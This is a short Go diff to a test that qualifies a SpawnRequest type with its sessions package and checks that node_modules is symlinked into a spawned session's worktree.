-	s := w.wait(w.spawnIn(w.work, "add w", SpawnRequest{}).ID)
+	s := w.wait(w.spawnIn(w.work, "add w", sessions.SpawnRequest{}).ID)
 	ws := s.Workspace
 	if fi, err := os.Lstat(filepath.Join(ws.Path, "node_modules")); err != nil || fi.Mode()&os.ModeSymlink == 0 {
 		t.Fatalf("node_modules was not linked into the worktree: %v", err)
